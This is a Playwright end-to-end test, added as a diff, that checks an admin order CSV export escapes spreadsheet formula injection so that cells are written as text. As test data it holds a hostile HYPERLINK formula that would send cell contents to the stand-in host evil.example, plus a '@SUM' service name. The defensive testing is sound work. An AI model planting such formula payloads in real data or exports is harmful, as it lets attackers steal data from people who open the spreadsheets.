@@ -1,0 +1,87 @@
+import { type APIRequestContext, expect, test } from '@playwright/test';
+
+const ADMIN = { email: 'admin@example.com', password: 'admin12345' };
+const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&E2&F2,"Click")';
+
+/** 14 digits + the Luhn check digit. */
+function imeiFrom(body: string): string {
+  let sum = 0;
+  for (let i = 0; i < body.length; i += 1) {
+    let digit = Number(body[body.length - 1 - i]);
+    if (i % 2 === 0) {
+      digit *= 2;
+      if (digit > 9) digit -= 9;
+    }
+    sum += digit;
+  }
+  return `${body}${(10 - (sum % 10)) % 10}`;
+}
+
+async function bearer(request: APIRequestContext, email: string, password: string) {
+  const res = await request.post('/api/login', { data: { email, password } });
+  expect(res.status()).toBe(200);
+  return { authorization: `Bearer ${(await res.json()).token}` };
+}
+
+test('the order CSV writes a customer named like a formula, a service and a code that start a formula, as text', async ({
+  page,
+  request,
+}) => {
+  const stamp = String(Date.now()).slice(-9);
+  const service = `@SUM(1+1) CSV ${stamp}`;
+  const customer = {
+    name: HOSTILE_NAME,
+    email: `csv.${stamp}@example.com`,
+    password: 'e2e-password-1',
+  };
+  const imei = imeiFrom(`35${stamp}700`);
+
+  const admin = await bearer(request, ADMIN.email, ADMIN.password);
+  const categories = await (await request.get('/api/categories', { headers: admin })).json();
+  const created = await request.post('/api/admin_services', {
+    headers: admin,
+    data: { name: service, price: 1, category_id: categories.data[0].id },
+  });
+  expect(created.status()).toBe(201);
+  const serviceId = (await created.json()).data.id;
+  const registered = await request.post('/api/regis', {
+    data: { ...customer, c_password: customer.password },
+  });
+  expect(registered.status()).toBe(201);
+  const customerId = (await registered.json()).user.id;
+  expect(
+    (
+      await request.patch(`/api/admin_users/${customerId}`, {
+        headers: admin,
+        data: { credits: 5 },
+      })
+    ).ok(),
+  ).toBe(true);
+  const shopper = await bearer(request, customer.email, customer.password);
+  const placed = await request.post('/api/orders', {
+    headers: shopper,
+    data: { service_id: serviceId, imei },
+  });
+  expect(placed.ok()).toBe(true);
+
+  await page.goto('/auth/login');
+  await page.getByLabel('Email').fill(ADMIN.email);
+  await page.getByLabel('Password').fill(ADMIN.password);
+  await page.getByRole('button', { name: 'Get Started' }).click();
+  await expect(page).toHaveURL(/\/admin\//);
+  await page.goto('/admin/admin-orders');
+  await expect(page.getByRole('row').filter({ hasText: imei })).toHaveCount(1);
+
+  const downloading = page.waitForEvent('download');
+  await page.getByRole('button', { name: 'Export CSV' }).click();
+  const download = await downloading;
+  const path = await download.path();
+  const { readFile } = await import('node:fs/promises');
+  const csv = await readFile(path, 'utf8');
+  const line = csv.split('\r\n').find((text) => text.includes(imei));
+  expect(line).toBeDefined();
+  // Every cell of the line: none begins (inside its quotes or not) with a formula character.
+  expect(line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
+  expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&E2&F2,""Click"")"`);
+  expect(line).toContain(`'@SUM(1+1) CSV ${stamp}`);
+});
